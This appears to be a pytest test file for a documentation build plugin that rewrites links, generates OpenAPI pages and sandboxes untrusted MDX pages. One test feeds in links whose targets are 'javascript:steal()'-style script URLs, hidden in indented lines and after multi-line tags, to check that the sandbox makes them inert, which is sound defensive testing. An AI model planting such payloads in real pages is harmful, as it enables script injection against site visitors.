                        "description": "A Record<string, number>, e.g. <provider>; see "
                                       "<https://x.example/models> and `Array<Model>`."}],
        "responses": {"200": {"description": "The thing."}}}}},
}


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_an_openapi_page_is_written_from_the_pinned_spec(tmp_path: Path, cache_dir: Path,
                                                          trust: str) -> None:
    """An untrusted page's ``openapi:`` front matter is taken out (it names a host file or a
    URL); the page was then published empty (mem0: 38 pages). It now gets the operation's
    reference from the spec of the pinned tree, made valid MDX and sandboxed like the page.
    The spec's text is text: a ``<`` that opens no HTML element (Helicone's specs) stopped
    the compile of the page, and with it the site's; an autolink is a link, a code span as
    written."""
    commit = make_repo(tmp_path / "up", {
        "docs/openapi.json": json.dumps(SPEC),
        "docs/guide.mdx": "---\ntitle: Guide\n---\n\nText.\n",
        "docs/api/get-thing.mdx": "---\ntitle: Get a thing\nopenapi: GET /things/{id}\n---\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, trust)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "api" / "get-thing.mdx").read_text()
    assert "**GET** `/things/{id}`" in page
    assert "Record&lt;string, number&gt;, e.g. &lt;provider&gt;" in page, page
    assert "[https://x.example/models](https://x.example/models)" in page
    assert "`Array<Model>`" in page
    assert "**`id`** · *string* · path · required" in page and "The thing's id." in page
    assert "[the guide](/diffusion/guide)" in page  # a link of the spec's text, rewritten
    assert "\\{id\\}" in page  # text of the spec is text, not an MDX expression
    assert "openapi:" not in page
    assert "'openapi' removed" not in done.stderr, done.stderr
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


#: the bytes of an image (not read as one: only copied)
PNG = b"\x89PNG\r\n\x1a\n" + bytes(16)
CARDS = """\
---
title: Cards
---

<section className="px-4">
  <div className="grid gap-4">
    <a
      href="/other"
      className="group flex"
    >
      <img
        className="block"
        src="/images/pic.png"
        alt="Pic"
        style={{pointerEvents: "none"}}
      />
      <div className="flex">
        <h3>First</h3>
      </div>
    </a>

    <a
      href='/other#second'
      className="group flex"
    >
      Second
    </a>
  </div>
</section>
"""


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_links_in_tags_written_across_lines_are_rewritten(tmp_path: Path, cache_dir: Path,
                                                           trust: str) -> None:
    """mem0's home page writes its cards as ``<a`` / ``href=…`` / ``>`` lines: CommonMark reads
    the ``>`` line as a block quote, so no link was seen, none rewritten and no image copied
    (18 broken links in ``mint broken-links``). The tags are read on one line for the link
    rules and written back as they were, with the rewritten URLs."""
    _build_section(tmp_path, {"docs/cards.mdx": CARDS, "docs/images/pic.png": PNG,
                              "docs/other.mdx": SECOND}, trust)
    page = (tmp_path / "out" / "diffusion" / "cards.mdx").read_text()
    expected = CARDS.replace('"/other"', '"/diffusion/other"').replace(
        "'/other#second'", "'/diffusion/other#second'").replace(
        '"/images/pic.png"', '"/diffusion/images/pic.png"')
    if trust:
        assert page == expected
    else:  # the sandbox takes the style expression out (its line moves below the tag)
        assert page == expected.replace('        style={{pointerEvents: "none"}}\n      />\n',
                                        "      />\n\n")
    assert (tmp_path / "out" / "diffusion" / "images" / "pic.png").is_file()
    assert broken_links(tmp_path / "out", tmp_path / "home", anchors=True) == {}


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_endpoint_pages_of_the_upstream_navigation_are_written(tmp_path: Path,
                                                               cache_dir: Path,
                                                               trust: str) -> None:
    """A tab with ``openapi`` and no pages: Mintlify generates a page per operation. On the
    host they are pages with the reference written from the pinned spec (never an
    ``openapi:`` line, which Mintlify would read against the host's own specs), listed in
    the tab, and links to them resolve."""
    commit = make_repo(tmp_path / "up", {
        "docs/docs.json": json.dumps({"name": "Up", "navigation": {"tabs": [
            {"tab": "Guides", "pages": ["guide"]}, {"tab": "API", "openapi": "/openapi.json"}]}}),
        "docs/openapi.json": json.dumps(SPEC),
        "docs/guide.mdx": "---\ntitle: Guide\n---\n\n"
                          "See [the thing](/api-reference/get-a-thing).\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, trust)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "api-reference" / "get-a-thing.mdx").read_text()
    assert page.startswith('---\ntitle: "Get a thing"\n---\n') or \
        page.startswith("---\ntitle: Get a thing\n---\n"), page
    assert "**GET** `/things/{id}`" in page and "openapi:" not in page
    assert "[the guide](/diffusion/guide)" in page
    nav = json.dumps(json.loads((tmp_path / "out" / "docs.json").read_text())["navigation"])
    assert '"diffusion/api-reference/get-a-thing"' in nav
    guide = (tmp_path / "out" / "diffusion" / "guide.mdx").read_text()
    assert "(/diffusion/api-reference/get-a-thing)" in guide
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


TRICKY_TAGS = """\
---
title: Tricky
---

<div>
  <a
    title="see href='/other' here"
    href="/other"
  >
    First
  </a>
  <img
    alt="two
lines"
    src="/images/pic.png"
  />
</div>
"""


def test_a_tag_across_lines_changes_only_where_its_urls_stand(tmp_path: Path,
                                                              cache_dir: Path) -> None:
    """Only the values of ``href`` and ``src`` change (not text that looks like one in
    another attribute), and a tag whose value runs over lines is left as it is (on one line
    it took the lines with it, and the page lost its components)."""
    commit = make_repo(tmp_path / "up", {
        "docs/tricky.mdx": TRICKY_TAGS, "docs/images/pic.png": PNG,
        "docs/other.mdx": "---\ntitle: Other\n---\n\nText.\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, "    banner: false\n    trust: full\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "tricky.mdx").read_text()
    assert page == TRICKY_TAGS.replace('href="/other"', 'href="/diffusion/other"').replace(
        'src="/images/pic.png"', 'src="/diffusion/images/pic.png"')
    assert "could not be restored" not in done.stderr


#: HTML elements as MDX reads them: their content is Markdown.
FLOW = """\
---
title: Flow
---

<p className="lead">
  Read [the other page](/other) and `code`.
</p>

<h3 className="x">
  See [second](/other#second)
</h3>

<details>
<summary>More</summary>

- an [item](/other)
</details>

<p align="center">Centered [link](/other) here.</p>

<section id="top">
Back to [the section](#top) or [further](/other#second).
</section>

<img src="/images/pic.png" />
See [other](/other) under an image.

<table>
  <tr>
    <th>Name</th>
  </tr>
  <tr>
    <td>
      See [a cell](/other#second) in a table.
    </td>
  </tr>
</table>

<ul>
  <li>[an item](/other)</li>
  <li>Plain</li>
</ul>

<table><tr><td>[a cell](/other)</td><td>plain</td></tr></table>

<ul>
  <li>[one](/other)</li><li>[two](/other#second)</li>
</ul>

<p>An <img alt="[not](a link)" src="/images/pic.png" /> picture.</p>

<div>{"[a string](/nowhere)"}</div>

{/*
<div>[commented out](/nowhere)</div>
*/}

    <div>[deep in](/other)</div>

<div
  className="x">[after a tag over lines](/other)</div> and [more](/other#second)
"""


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_links_in_html_elements_of_mdx_are_rewritten(tmp_path: Path, cache_dir: Path,
                                                     trust: str) -> None:
    """MDX reads the lines inside ``<p>``, ``<h3>``, ``<details>``, ``<td>``… as Markdown (MDX
    has no HTML blocks, nor indented code), and a one-line ``<p>…</p>``'s or ``<li>…</li>``'s
    text too, and the text between tags on one line (``<tr><td>[a](/x)</td>…``); CommonMark
    reads them as raw HTML, so their links were left as written: broken under the mount.
    They are rewritten, and the rest of the page is written as it was."""
    said = _build_section(tmp_path, {"docs/flow.mdx": FLOW, "docs/images/pic.png": PNG,
                                     "docs/other.mdx": SECOND}, trust)
    assert "closes nothing" not in said and "never closed" not in said
    assert "/nowhere" not in said  # a JavaScript string, a comment: no link to check
    page = (tmp_path / "out" / "diffusion" / "flow.mdx").read_text()
    expected = FLOW.replace("](/other", "](/diffusion/other").replace(
        '"/images/', '"/diffusion/images/')
    if not trust:  # the sandbox takes comments out, and writes a string as its text
        expected = expected.replace("{/*\n<div>[commented out](/nowhere)</div>\n*/}",
                                    "\n\n").replace('{"[a string](/nowhere)"}',
                                                      "\\[a string\\](/nowhere)")
    assert page == expected
    assert broken_links(tmp_path / "out", tmp_path / "home", anchors=True) == {}


#: Components with an icon file and a picture (mem0 gives 75 cards an icon file).
ICONS = """\
---
title: Icons
---

<CardGroup cols={2}>
  <Card title="A" icon="/images/i.svg" href="/other" />
  <Card title="B" icon="images/i.svg" img="/images/c.png" href="/other">Inline [o](/other)</Card>
  <Card title="C" icon="rocket" />
</CardGroup>

<Note icon="/images/i.svg">A note.</Note>

<Card
  title="Multi"
  data-icon="/keep"
  icon='/images/i.svg'
  href="/other"
>
  Text
</Card>
"""


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_component_icons_and_pictures_are_published_under_the_mount(
        tmp_path: Path, cache_dir: Path, trust: str) -> None:
    """A component's ``icon`` given as a file (``icon="/images/openai.svg"``) and a card's
    ``img`` are files of the upstream's docs: they were written as they were, so they named
    the host's root, and were not published. They are links now, rewritten and published;
    an icon's name (``rocket``) and other attributes stay."""
    _build_section(tmp_path, {"docs/icons.mdx": ICONS, "docs/images/i.svg": "<svg/>",
                              "docs/images/c.png": PNG, "docs/other.mdx": SECOND}, trust)
    out = tmp_path / "out" / "diffusion"
    expected = ICONS.replace('"/other', '"/diffusion/other').replace(
        "](/other", "](/diffusion/other").replace("/images/", "/diffusion/images/").replace(
        '"images/i.svg"', '"/diffusion/images/i.svg"').replace(
        "icon='/diffusion/images/i.svg'", 'icon="/diffusion/images/i.svg"')
    assert (out / "icons.mdx").read_text() == expected
    assert (out / "images" / "i.svg").is_file() and (out / "images" / "c.png").is_file()
    assert broken_links(tmp_path / "out", tmp_path / "home", anchors=True) == {}


def test_a_page_with_mixed_line_endings_keeps_every_line(tmp_path: Path,
                                                         cache_dir: Path) -> None:
    """A CRLF page with a bare LF inside a tag (a file edited on two systems): the steps split
    it at CRLF, the tag's lines were counted at LF, and writing the tag back took the next
    line's place: ``<tr>`` and a line of the note were lost, and no link was rewritten. Its
    line endings are made uniform (as most of its lines end); nothing else changes."""
    page = ('---\r\ntitle: Mixed\r\n---\r\n\r\n<table\n  className="x">\r\n  <tr>\r\n'
            "    <td>[a](/other)</td>\r\n  </tr>\r\n</table>\r\n\r\n<Note\n  title=\"T\">\r\n"
            "Line one [b](/other)\r\nLine two\r\n</Note>\r\n")
    said = _build_section(tmp_path, {"docs/mixed.mdx": page.encode(),
                                     "docs/other.mdx": SECOND}, "")
    assert "never closed" not in said and "closes nothing" not in said
    out = (tmp_path / "out" / "diffusion" / "mixed.mdx").read_bytes().decode()
    assert out == page.replace("\r\n", "\n").replace("\n", "\r\n").replace(
        "](/other", "](/diffusion/other")


def test_unsafe_links_the_scan_does_not_see_are_made_inert_too(tmp_path: Path,
                                                               cache_dir: Path) -> None:
    """MDX reads a link in a line indented four spaces, where the link scan does not look (nor
    did it after a tag written over several lines): an untrusted page's ``javascript:`` there
    stayed live. The sandbox makes every unsafe destination inert itself, and says where."""
    page = ("---\ntitle: Deep\n---\n\nText.\n\n    [indented](javascript:steal(1))\n\n"
            '<div\n  title="t">[after a tag](JavaScript\\:steal())</div>\n\n'
            "[ref]: javascript:steal()\n\n`[code](javascript:kept)`\n")
    said = _build_section(tmp_path, {"docs/deep.mdx": page, "docs/other.mdx": SECOND}, "")
    out = (tmp_path / "out" / "diffusion" / "deep.mdx").read_text()
    assert "    [indented](#)" in out and "[after a tag](#)" in out and "[ref]: #" in out
    assert out.count("javascript:") == 1 and "`[code](javascript:kept)`" in out
    assert "docs/deep.mdx:7: unsafe URL 'javascript:steal(1)'" in said
    assert "docs/deep.mdx:10: " in said and "docs/deep.mdx:12: javascript:" in said



@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_links_in_mdx_comments_are_not_links(tmp_path: Path, cache_dir: Path,
                                             trust: str) -> None:
    """Authors comment out what they take away (``{/* <Card href="/old-page"> … */}``). The
    other engines' pages lose their comments before the link scan; a Mintlify host keeps
    them, so their links were rewritten and reported as broken: a strict build failed on
    text no reader sees. They are left alone."""
    page = ('---\ntitle: Home\n---\n\n{/*\n<Card title="Old" href="/old-page">\n  Gone.\n'
            "</Card>\n\nSee [the old page](/old-page).\n*/}\n\n"
            "Text {/* [old](/missing) */} and [ok](/other).\n")
    said = _build_section(tmp_path, {"docs/home.mdx": page, "docs/other.mdx": SECOND}, trust)
    assert "old-page" not in said and "/missing" not in said, said
    out = (tmp_path / "out" / "diffusion" / "home.mdx").read_text()
    assert "[ok](/diffusion/other)" in out
    if trust:
        assert out == page.replace("(/other)", "(/diffusion/other)")


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_html_comments_are_taken_out_for_mdx(tmp_path: Path, trust: str) -> None:
    """MDX has no HTML comments: ``mint`` stopped on ``<!--`` right before a tag ("Unable to
    parse"), so the site could not be checked or deployed. Comments outside code go, as a
    browser ends them; the lines stay; a comment in code is code."""
    commit = make_repo(tmp_path / "up", {
        "docs/index.md": ("# Home\n\n<!-- a note -->\n<div class=\"x\">\nkept\n</div>\n\n"
                          "Text <!-- inline --> and `<!-- code span -->`.\n\n<!--\nover\n"
                          "lines -->\nAfter.\n\n<!-->Shown<!--->\n\n```html\n<!-- fenced -->\n"
                          "```\n"),
        "docs/other.md": "# Other\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, trust)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "index.md").read_text()
    for gone in ("a note", "inline", "over", "lines -->"):
        assert gone not in page, page
    assert "Text  and `<!-- code span -->`." in page and "<!-- fenced -->" in page, page
    assert "\nkept\n" in page and "After." in page and "Shown" in page, page
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


def test_an_mkdocs_upstreams_admonitions_and_tabs_become_components(tmp_path: Path) -> None:
    """An MkDocs upstream's ``!!!``, ``???`` and ``===`` blocks showed their markers as text
    and their indented content as code: they are Mintlify's callouts, accordions and tabs,
    their links rewritten; ``:::`` autodoc lines are replaced and reported, as elsewhere."""
    commit = make_repo(tmp_path / "up", {
        "mkdocs.yml": "site_name: Up\nmarkdown_extensions:\n  - admonition\n"
                      "  - pymdownx.details\n  - pymdownx.tabbed\n",
        "docs/index.md": ('# Home\n\n!!! info inline end "Your platform"\n\n    ### Linux\n'
                          "    See [other](other.md).\n\nText.\n\n=== \"HTTPS\"\n\n"
                          "    ```bash\n    git clone https://x\n    ```\n\n=== \"SSH\"\n\n"
                          "    Use ssh.\n\n??? tip\n\n    Hidden.\n\n::: pkg.module\n\nEnd.\n"),
        "docs/other.md": "# Other\n"})
    docs = _host(tmp_path, tmp_path / "up", commit)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "index.md").read_text()
    assert "!!!" not in page and "===" not in page and "???" not in page, page
    assert '<Info title="Your platform">' in page and "[other](/diffusion/other)" in page, page
    assert '<Tab title="HTTPS">' in page and '<Accordion title="Tip">' in page, page
    assert "pkg.module" in done.stderr, done.stderr
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


@pytest.mark.parametrize(("body", "code", "expected"), [
    # a comment that would take a line of code with it is no comment: its "<!--" is text,
    # and the code after it stays code (the sandbox reads the lines of code found before)
    ("text <!--\n\n```\n-->\n{run()}\n```", {2, 3, 4, 5},
     "text &lt;!--\n\n```\n-->\n{run()}\n```"),
    ("a <!-- never closed", set(), "a &lt;!-- never closed"),
    ("<!--\nover\nlines -->after <!-- x --> y", set(), "\n\nafter  y"),
])
def test_a_comment_never_takes_code_with_it(body: str, code: set[int], expected: str) -> None:
    from miles_docs_plugin.mintlify_host.mdx import valid_mdx

    assert valid_mdx(body, code) == expected


def test_an_mdx_comment_never_takes_code_with_it() -> None:
    from miles_docs_plugin.core.transform.mdx import blank_comments

    lines = ["more {/*", "", "```", "*/}", "{run()}", "```", "{/* gone */} kept"]
    blank_comments(lines, {2, 3, 4, 5})
    assert lines == ["more {/*", "", "```", "*/}", "{run()}", "```", " kept"]


#: fields and the links to them, as Mintlify numbers them (``rehypeParamFieldIds``)
FIELDS_PAGE = """\
---
title: Fields
---

<ParamField body="Config file" type="string">
  The file.
</ParamField>

<ParamField query="limit" path="isTest" type="boolean">
  Query first.
</ParamField>

<ParamField body="id">
  The first id.
</ParamField>

<ParamField body="id" id="param-id-1">
  Its own id.
</ParamField>

<ParamField body="id" />

<ResponseField name="nextCursor" type="string">
  The cursor.
</ResponseField>

<ParamField body="inline">In a paragraph: MDX makes it text, with no id.</ParamField>

Links: [a](#param-config-file), [b](#param-limit), [c](#param-id), [d](#param-id-2),
[e](#param-next-cursor), [f](#param-inline).
"""


def test_field_ids_are_mintlifys_on_every_host(tmp_path: Path, cache_dir: Path) -> None:
    """A field's id is ``param-`` and its name decamelized and slugified, counted on
    repeats past ids written by hand: links to them are not broken on the Mintlify host (as
    ``mint broken-links --check-anchors`` says), and MkDocs and Sphinx emit the same ids."""
    from hosts import ENGINES, built_page
    from mintlify_support import broken_links

    files: dict[str, str | bytes] = {
        "docs/docs.json": '{"name": "Up", "navigation": {"pages": ["fields"]}}\n',
        "docs/fields.mdx": FIELDS_PAGE,
        "docs/other.mdx": "# Other\n\nSee [the field](fields#param-next-cursor) and "
                          "[the other](fields.mdx#param-is-missing).\n"}
    stderr = _build_section(tmp_path / "mint", files, "")
    assert "param-next-cursor" not in stderr and "param-id-2" not in stderr, stderr
    # still reported: no field has that name, and a field in a paragraph has no id
    assert "#param-is-missing matches no heading" in stderr
    assert "#param-inline matches no heading" in stderr
    out = tmp_path / "mint" / "out"
    written = (out / "diffusion" / "fields.mdx").read_text("utf-8")
    assert "<a id=" not in written and '<ParamField body="Config file" type="string">' in written
    (out / "diffusion" / "other.mdx").unlink()  # the broken link on purpose
    assert "[f](#)" in written  # the broken one, as any broken anchor
    assert broken_links(out, tmp_path / "home", anchors=True) == {}
    for engine in ENGINES:
        page = FIELDS_PAGE.replace(", [f](#param-inline)", "")  # strict builds
        html = built_page(engine, tmp_path / engine, {**files, "docs/fields.mdx": page,
                                                      "docs/other.mdx": "# Other\n"}, "fields.md")
        for anchor in ("param-config-file", "param-limit", "param-id", "param-id-2",
                       "param-next-cursor"):
            assert f'id="{anchor}"' in html and f'href="#{anchor}"' in html, (engine, anchor)
        assert 'id="param-inline"' not in html


def test_field_ids_match_mintlifys_own_function(tmp_path: Path) -> None:
    """``mintlify_field_id`` against ``generateParamFieldId`` of the pinned ``mint``'s
    ``@mintlify/common``, run by node on names as APIs spell them."""
    from mintlify_support import ensure_mint

    from miles_docs_plugin.core.transform.anchors import mintlify_field_id

    names: list[tuple[str, int]] = [
        ("isTest", 0), ("Config file", 1), ("HTTPRequest2", 0), ("APIs", 0), ("x&y", 0),
        ("über", 0), ("snake_case_x", 2), ("a.b[0].c", 0), ("userID", 3), ("don't", 0),
        ("XMLHttpRequest", 0), ("Authorization", 0), ("X-Api-Key", 0), ("page[size]", 0),
        ("ÆØÅ straße", 0), ("café", 0), ("__proto__", 0), ("v2Beta", 1), ("$ref", 0)]
    module = (ensure_mint().parent.parent / "@mintlify" / "common" / "dist" / "mdx" / "plugins"
              / "rehype" / "rehypeParamFieldIds.js")
    script = write(tmp_path / "ids.mjs", f"import {{ generateParamFieldId }} from "
                   f"{json.dumps(module.as_uri())};\nconst names = {json.dumps(names)};\n"
                   "console.log(JSON.stringify(names.map(([n, c]) => "
                   "generateParamFieldId(n, c))));\n")
    done = subprocess.run(["node", str(script)], capture_output=True, text=True, check=True)
    assert [mintlify_field_id(n, c) for n, c in names] == json.loads(done.stdout)


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_snippet_tags_across_lines_are_inlined(tmp_path: Path, cache_dir: Path,
                                               trust: str) -> None:
    """A ``<Snippet>`` or imported snippet tag over several lines is inlined like a one-line
    one: the upstream's snippet files are not in the output, so a tag left in would name
    nothing (Mintlify: "Cannot expand missing snippet")."""
    files: dict[str, str | bytes] = {
        "docs/snippets/s2.mdx": "## Snip two\n\nsnippet text two\n",
        "docs/snippets/s3.mdx": "snippet text three says {word}\n",
        "docs/across.mdx": "---\ntitle: Across\n---\n\n<Snippet\n  file=\"s2.mdx\"\n"
                           "  variables={{\n    \"tool\": \"X\",\n  }}\n/>\n\n"
                           "import Three from '/snippets/s3.mdx';\n\n"
                           "<Three\n  word=\"hello\"\n/>\n\nAfter [s2](#snip-two).\n"}
    _build_section(tmp_path, files, trust)
    written = (tmp_path / "out" / "diffusion" / "across.mdx").read_text("utf-8")
    assert "snippet text two" in written and "snippet text three says hello" in written
    assert "<Snippet" not in written and "<Three" not in written and "import" not in written
    assert broken_links(tmp_path / "out", tmp_path / "home", anchors=True) == {}
